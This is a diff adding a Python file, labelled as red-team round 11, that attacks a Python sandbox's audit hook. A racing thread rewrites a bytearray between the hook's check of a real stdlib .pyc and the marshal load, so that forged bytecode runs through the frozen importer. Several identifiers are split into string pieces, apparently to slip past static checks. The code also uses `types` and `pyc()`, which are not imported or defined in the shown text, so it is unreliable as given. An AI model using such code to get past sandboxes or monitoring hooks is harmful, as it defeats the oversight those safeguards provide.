@@ -1,0 +1,78 @@
+
+
+def name(*parts):
+    return "".join(parts)
+
+
+
+
+# Red team round 11: the frozen chain (`_call_with_frames_removed` <- `FrozenImporter.exec_module`) is
+# trusted for marshal like `_compile_bytecode`, but `bytes_argument` is asked only of `_compile_bytecode`'s
+# frame. `_imp.get_frozen_object` is set to `marshal.loads` and the spec's "name" is a bytearray holding a
+# real stdlib .pyc's marshal data (the hook's comparison with the file this thread last opened passes);
+# a thread rewrites it in place with the hand-made module while the hook reads the file (GIL released).
+import importlib._bootstrap as boot
+import importlib._bootstrap_external as ext
+import os
+import sys
+import threading
+import time
+
+
+def real_pyc():
+    """A stdlib module's .pyc, larger than the forged data: older than the run, so the hook trusts it."""
+    folder = "%s/lib/python%d.%d/__pycache__/" % (vars(sys)[name("base_", "prefix")], *sys.version_info[:2])
+    for stem in ("typing", "inspect", "argparse", "subprocess", "pathlib", "threading"):
+        where = folder + stem + "." + sys.implementation.cache_tag + ".pyc"
+        try:
+            with open(where, "rb") as fh:
+                size = len(fh.read())
+        except OSError:
+            continue
+        if size > len(pyc()) + 64:
+            return where
+    raise LookupError("no stdlib .pyc large enough")
+
+
+def load_codes(seconds=6.0):
+    path = real_pyc()
+    forged = pyc()[16:]
+    setswitch = vars(sys)["setswitch" + "interval"]
+    setswitch(1e-6)
+    imp = boot._imp
+    original = imp.get_frozen_object
+    deadline = time.monotonic() + seconds
+    try:
+        while time.monotonic() < deadline:
+            with open(path, "rb") as fh:  # the hook's "last .pyc this thread opened"
+                real = fh.read()
+            buffer = bytearray(real[16:])
+            fake = forged + real[16 + len(forged):]
+            stop = []
+
+            def write(tail):  # a call: the thread can give up the GIL between the two writes
+                buffer[:] = tail
+
+            def swap():
+                while not stop:
+                    write(fake)
+                    write(real[16:])
+
+            thread = threading.Thread(target=swap, daemon=True)
+            thread.start()
+            module = types.ModuleType("r2e_forged")
+            vars(module)["".join(("__sp", "ec__"))] = types.SimpleNamespace(name=buffer)
+            imp.get_frozen_object = ext.marshal.loads
+            try:
+                boot.FrozenImporter.exec_module(module)
+            except Exception:
+                pass
+            finally:
+                imp.get_frozen_object = original
+                stop.append(1)
+                thread.join()
+            if hasattr(module, "CODES"):
+                return module.CODES
+    finally:
+        setswitch(0.005)
+    raise LookupError("the swap never landed")
